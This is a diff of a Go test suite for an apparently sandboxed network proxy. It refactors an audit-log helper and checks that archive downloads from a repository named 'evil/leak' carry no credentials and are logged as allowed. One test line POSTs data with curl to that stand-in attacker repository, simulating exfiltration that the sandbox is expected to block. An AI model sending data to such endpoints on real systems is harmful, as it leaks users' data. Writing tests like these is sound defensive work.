@@ -89,12 +89,22 @@ func curl(t *testing.T, name, args string) (string, string) {
 	return strings.TrimSpace(status), body
 }
 
-// deniedEvents are the sandbox's refusals in the audit stream.
+// waitDenied waits for a refusal of the sandbox in the audit stream.
 func waitDenied(t *testing.T, name string, match func(audit.Event) bool) audit.Event {
 	t.Helper()
+	return waitEvent(t, name, true, match)
+}
+
+// waitEvent waits for an audit event of the sandbox (only refusals when denied).
+func waitEvent(t *testing.T, name string, denied bool, match func(audit.Event) bool) audit.Event {
+	t.Helper()
+	args := []string{"audit", "tail", "--sandbox", name, "--json"}
+	if denied {
+		args = append(args, "--denied")
+	}
 	var found audit.Event
 	err := testutil.Poll(15*time.Second, func() error {
-		out := stack.MustNexus(t, "audit", "tail", "--sandbox", name, "--denied", "--json")
+		out := stack.MustNexus(t, args...)
 		for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
 			var ev audit.Event
 			if json.Unmarshal([]byte(line), &ev) == nil && match(ev) {
@@ -195,6 +205,10 @@ func TestArchiveOfForeignRepo(t *testing.T) {
 		if r.Auth != "" {
 			t.Fatalf("%s %s reached github.com with Authorization %q; the credential must be stripped", r.Method, r.Path, redact(r.Auth))
 		}
+	}
+	ev := waitEvent(t, name, false, func(ev audit.Event) bool { return ev.Path == "/evil/leak/archive/refs/tags/v1.tar.gz" })
+	if ev.Decision != audit.Allow || ev.Rule != "github_artifact" || ev.Swapped || ev.Status != 200 {
+		t.Fatalf("archive audit event %+v", ev)
 	}
 	status, body = curl(t, name, `-X POST -d x https://github.com/evil/leak/archive/v1.zip`)
 	if status != "403" || !strings.Contains(body, "only GET and HEAD are allowed there") {
